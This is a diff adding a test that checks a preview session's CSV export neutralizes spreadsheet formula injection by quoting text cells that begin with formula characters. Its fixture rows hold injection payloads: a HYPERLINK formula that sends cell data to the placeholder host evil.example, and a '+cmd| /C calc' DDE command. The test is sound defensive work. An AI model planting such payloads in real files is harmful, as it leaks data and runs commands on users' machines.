@@ -54,6 +54,33 @@ describe('preview session: a member\'s own login, cancel on close and on newer r
     }
   });
 
+  it('exports formulas as they are, or, with the option, text cells that start one behind a leading quote (never numbers or dates)', async () => {
+    await using(w.editor, w.workspace.dbName, (c) =>
+      c.query(`CREATE DOMAIN memo AS varchar(100);
+        CREATE TABLE formulas (id int PRIMARY KEY, note text, memo memo, amount numeric, day date);
+        INSERT INTO formulas VALUES (1, '=HYPERLINK("http://evil.example/?d="&A2, "x")', '+cmd|'' /C calc''!A0', -5, '2024-01-02'),
+          (2, '-2+3', '@SUM(A1)', 7, '2024-02-03'), (3, E'\\tindent', E'\\rreturn', 1, NULL), (4, 'plain', 'a=b', NULL, NULL)`),
+    );
+    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', 'formulas');
+    const csv = async (neutralize: boolean): Promise<string> => {
+      let out = '';
+      await session.exportCsv({ sort: { column: 'id', direction: 'asc' } }, new Writable({ write: (chunk: Buffer, _e, cb) => ((out += chunk.toString()), cb()) }), undefined, neutralize);
+      return out;
+    };
+    try {
+      assert.equal(
+        await csv(false),
+        'id,note,memo,amount,day\n1,"=HYPERLINK(""http://evil.example/?d=""&A2, ""x"")",+cmd|\' /C calc\'!A0,-5,2024-01-02\n2,-2+3,@SUM(A1),7,2024-02-03\n3,\tindent,"\rreturn",1,\n4,plain,a=b,,\n',
+      );
+      assert.equal(
+        await csv(true),
+        'id,note,memo,amount,day\n1,"\'=HYPERLINK(""http://evil.example/?d=""&A2, ""x"")",\'+cmd|\' /C calc\'!A0,-5,2024-01-02\n2,\'-2+3,\'@SUM(A1),7,2024-02-03\n3,\'\tindent,"\'\rreturn",1,\n4,plain,a=b,,\n',
+      );
+    } finally {
+      await session.close();
+    }
+  });
+
   it('reads the table\'s columns once, and again when a page says the table changed under it', async () => {
     await using(w.editor, w.workspace.dbName, (c) => c.query('CREATE TABLE reshaped (id int PRIMARY KEY, old_note text, kept int); INSERT INTO reshaped VALUES (1, \'a\', 10), (2, \'b\', 20)'));
     const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', 'reshaped');
